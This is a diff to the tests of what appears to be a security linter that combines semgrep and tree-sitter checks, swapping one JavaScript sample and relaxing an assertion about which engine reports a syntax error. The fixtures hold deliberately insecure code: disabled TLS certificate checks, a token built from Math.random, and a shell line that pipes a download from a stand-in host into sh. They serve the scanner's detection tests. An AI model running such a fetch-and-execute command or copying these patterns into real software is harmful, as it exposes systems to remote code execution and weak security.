@@ -193,7 +193,8 @@ def test_suppressions_select_and_per_file_ignores(tmp_path):
 
 
 def test_semgrep_can_be_switched_off_in_config(tmp_path):
-    js = _write(tmp_path, "a.js", "https.request({ host: h, rejectUnauthorized: false });\n")
+    # a site only a semgrep rule reports (the tree-sitter analysis runs whatever `semgrep` says)
+    js = _write(tmp_path, "a.js", "function resetToken() {\n  return Math.random().toString(36).slice(2);\n}\n")
     sh = _write(tmp_path, "s.sh", "curl -s https://x.example/i | sh\n")
     config = config_from_table({"semgrep": False}, "test", tmp_path)
     assert config.semgrep is False
@@ -220,7 +221,9 @@ def test_scan_content_checks_in_memory_content(tmp_path):
 def test_syntax_error_is_bdl901(tmp_path):
     bad = _write(tmp_path, "bad.js", "function ( {{{ \n const x = rejectUnauthorized: ;; }}}}}\n")
     result = _scan([bad])
-    assert any(f.code == "BDL901" and f.engine == "semgrep" and f.blocking for f in result.findings), result.findings
+    # semgrep and the tree-sitter analysis both report it; the policy keeps one (the analysis')
+    assert any(f.code == "BDL901" and f.engine in ("semgrep", "text") and f.blocking for f in result.findings), \
+        result.findings
 
 
 def test_syntax_error_names_the_file_as_the_report_does(tmp_path, monkeypatch):
